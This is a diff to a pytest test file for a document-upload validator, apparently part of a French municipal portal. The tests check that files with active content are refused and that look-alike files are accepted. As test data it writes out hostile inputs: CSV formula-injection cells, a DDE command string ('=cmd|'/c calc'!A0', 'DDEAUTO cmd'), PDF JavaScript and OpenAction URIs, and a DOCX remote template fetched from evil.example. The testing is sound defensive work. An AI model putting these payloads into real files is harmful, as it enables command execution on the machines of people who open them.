@@ -7,7 +7,7 @@ import unicodedata
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
 
-from documents import filegen
+from civis.portal.demo import filegen
 from documents.validation import MIME_TYPES, UploadRejected, check_upload, sanitize_filename
 from tests.documents import hostile
 
@@ -91,6 +91,7 @@ def _accepted() -> list[tuple[str, bytes, str]]:
         ("plan.png", hostile.image("PNG"), "png"),
         ("photo.jpg", hostile.image("JPEG"), "jpeg"),
         ("photo.JPEG", hostile.image("JPEG", (640, 480)), "jpeg"),
+        *hostile.accepted_lookalikes(),
     ]
 
 
@@ -180,3 +181,62 @@ def test_sanitize_filename_rejects(raw):
     with pytest.raises(UploadRejected) as caught:
         sanitize_filename(raw)
     assert caught.value.code == "bad_name" and "nom" in caught.value.message
+
+
+def _refusal(content: bytes, name: str) -> UploadRejected:
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(io.BytesIO(content), name, max_size=MB)
+    return caught.value
+
+
+def test_every_active_content_case_is_refused_and_its_look_alike_accepted():
+    # The corpus above runs each case; this keeps the two lists from shrinking unnoticed.
+    assert len(hostile.active_content_corpus()) >= 60
+    assert len(hostile.accepted_lookalikes()) >= 15
+
+
+@pytest.mark.parametrize(("content", "line", "column", "char"), [
+    (b"commune;montant\nM\xc3\xa9rignac;=1+1\n", 2, 2, "="),
+    (b"commune;montant;note\nA;1;ok\nB;2;ok\nC;3;@x\n", 4, 3, "@"),
+    (b'commune;montant\nA;"1\n2"\nB;"\t+cmd|x"\n', 4, 2, "+"),
+    (b"=1+1;montant\nA;1\n", 1, 1, "="),
+])
+def test_csv_formula_refusal_names_the_line_and_column(content, line, column, char):
+    refusal = _refusal(content, "donnees.csv")
+    assert refusal.code == "active_content"
+    assert f"ligne {line}, colonne {column}" in refusal.message
+    assert f"« {char} »" in refusal.message and "formule" in refusal.message
+
+
+def test_csv_formula_refusal_names_the_column_header():
+    refusal = _refusal(b"commune;montant\nA;-cmd\n", "donnees.csv")
+    assert "« montant »" in refusal.message
+
+
+def test_a_formula_looking_text_file_is_not_a_spreadsheet():
+    text = b"Rappel : =1+1 et @mairie.\n-cmd\n"
+    assert check_upload(io.BytesIO(text), "notes.txt", max_size=MB).kind == "txt"
+
+
+def test_pdf_form_with_javascript_is_told_to_flatten_or_remove_scripts():
+    for content in (hostile.form_pdf(b"/AA << /K << /S /JavaScript /JS (x) >> >>"),
+                    hostile.xfa_pdf()):
+        refusal = _refusal(content, "cerfa.pdf")
+        assert refusal.code == "active_content"
+        assert "JavaScript" in refusal.message and "aplatissez" in refusal.message
+    # The same form without scripts is accepted.
+    assert check_upload(io.BytesIO(hostile.form_pdf()), "cerfa.pdf", max_size=MB).kind == "pdf"
+
+
+@pytest.mark.parametrize(("content", "name", "words"), [
+    (hostile.build_pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
+     "a.pdf", "ouverture"),
+    (hostile.docx_simple_field("DDEAUTO cmd"), "a.docx", "DDE"),
+    (hostile.docx_template("http://evil.example/m.dotm"), "a.docx", "modèle"),
+    (hostile.docx_related("oleObject", "file:///C:/b.xlsx"), "a.docx", "liaison"),
+    (hostile.docx(extra=[("word/embeddings/oleObject1.bin", b"x")]), "a.docx", "incorporé"),
+    (hostile.xlsx_with("=cmd|'/c calc'!A0"), "a.xlsx", "DDE"),
+])
+def test_active_content_messages_say_what_was_found(content, name, words):
+    refusal = _refusal(content, name)
+    assert refusal.code == "active_content" and words in refusal.message
